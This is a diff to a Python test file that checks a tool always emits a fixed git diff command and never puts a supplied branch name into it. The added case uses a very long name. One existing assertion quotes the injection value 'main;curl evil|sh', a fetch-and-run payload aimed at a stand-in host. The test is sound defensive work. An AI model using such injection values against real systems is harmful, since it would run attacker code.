@@ -26,6 +26,7 @@ def test_branch_name_that_a_shell_would_obey_is_in_no_command() -> None:
     assert "`git diff refs/bottlepost/base...HEAD`" in said
     assert 'that is "main;curl evil|sh"' in said
     assert "`git diff refs/bottlepost/base...HEAD`" in words(base_name="-x")
+    assert "`git diff refs/bottlepost/base...HEAD`" in words(base_name="x" * 1000), "of which there may be no ref"
 
 
 def test_moved_head_tells_where_the_agents_own_work_is() -> None:
